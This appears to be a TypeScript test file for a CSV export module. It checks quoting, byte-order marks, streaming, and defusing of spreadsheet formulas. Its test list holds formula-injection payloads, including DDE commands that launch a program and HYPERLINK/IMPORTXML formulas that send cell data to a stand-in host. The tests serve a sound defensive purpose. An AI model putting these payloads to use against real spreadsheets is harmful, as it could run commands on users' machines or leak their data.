import { describe, expect, it } from 'vitest';
import { csvChunks, neutralizeFormula, writeCsv } from '../../../../server/formats/sheets/csv.ts';
import type { Cell, Sheet } from '../../../../server/formats/sheets/sheet.ts';
import { parseCsv } from '../../../support/csv.ts';

const sheetOf = (headings: string[], rows: Cell[][], perPage = 1): Sheet<Cell[]> => ({
  columns: headings.map((heading, index) => ({ name: heading, heading, cell: (row) => row[index] ?? null })),
  pages: Array.from({ length: Math.ceil(rows.length / perPage) }, (_, page) =>
    rows.slice(page * perPage, (page + 1) * perPage),
  ),
});

it('a sheet is RFC 4180 with a byte order mark, figures and days plain', async () => {
  const rows: Cell[][] = [
    ['a "b", c', { cents: -116_050 }],
    ['línea\n2', 7],
    ['', null],
    ['a;b', { date: '2026-11-20' }],
  ];
  expect(await writeCsv(sheetOf(['Proveedor', 'Total'], rows))).toBe(
    '\ufeffProveedor,Total\r\n"a ""b"", c",-1160.50\r\n"línea\n2",7\r\n,\r\n"a;b",2026-11-20\r\n',
  );
  expect(await writeCsv(sheetOf(['Proveedor', 'Total'], []))).toBe('\ufeffProveedor,Total\r\n');
});

describe('text that a spreadsheet would run as a formula', () => {
  const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
  const before = ['', ' ', '\t', '\n', '\r\n', '\u00a0', '\u2003', '\ufeff', '\u200b', '\u0000'];
  const hostile = [
    ...signs.flatMap((sign) => before.map((start) => `${start}${sign}1+1`)),
    '=HYPERLINK("https://malo.test?"&A1,"ver")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+9)*cmd|" /C calc"!A0',
    '=IMPORTXML(CONCAT("https://malo.test/",A2:E2),"//a")',
    '=1+1";=1+1',
    '=";"&A1',
    '\rx',
    '\tx',
    '+52 (55) 5000 1001',
    // Whoever takes one apostrophe off has to find the text again.
    "'=1+1",
    "'001",
  ];

  it.each(hostile)('is defused, and is the same text behind the apostrophe: %j', async (text) => {
    expect(neutralizeFormula(text)).toBe(`'${text}`);
    const { rows } = parseCsv(await writeCsv(sheetOf(['a', 'b'], [[text, `x;${text}`]])));
    expect(rows).toEqual([{ a: `'${text}`, b: `x;${text}` }]);
  });

  it('is defused in a heading too, which may be the name of a rubro', async () => {
    const { headings } = parseCsv(await writeCsv(sheetOf(['=1+1'], [])));
    expect(headings).toEqual(["'=1+1"]);
  });

  it('is told from text that is none, and from figures', async () => {
    for (const text of ['A-1', '1160.50', '', 'Torre = 2', "d'x", 'a@b.mx'])
      expect(neutralizeFormula(text)).toBe(text);
    expect(await writeCsv(sheetOf(['a'], [[{ cents: -1 }], [-5]]))).toBe('\ufeffa\r\n-0.01\r\n-5\r\n');
  });
});

describe('a sheet that is written while it is read', () => {
  /** Endless pages of a hundred rows; `read` counts them, `ended` says that reading was stopped. */
  function endless() {
    const seen = { read: 0, ended: false };
    async function* pages() {
      try {
        for (;;) {
          seen.read++;
          yield Array.from({ length: 100 }, (_, index): Cell[] => [seen.read * 100 + index, 'x'.repeat(80)]);
        }
      } finally {
        seen.ended = true;
      }
    }
    return { seen, sheet: { ...sheetOf(['a', 'b'], []), pages: pages() } };
  }

  it('is read no further than it is asked for, and others run between two pages', async () => {
    const { seen, sheet } = endless();
    const chunks = csvChunks(sheet);
    let others = 0;
    const tick = () => {
      others++;
      if (others < 50) setImmediate(tick);
    };
    setImmediate(tick);
    for (let page = 1; page <= 20; page++) {
      await chunks.next();
      expect(seen.read).toBe(page);
    }
    expect(others).toBeGreaterThanOrEqual(19);
    await chunks.return(undefined);
    expect(seen.ended).toBe(true);
  });
});
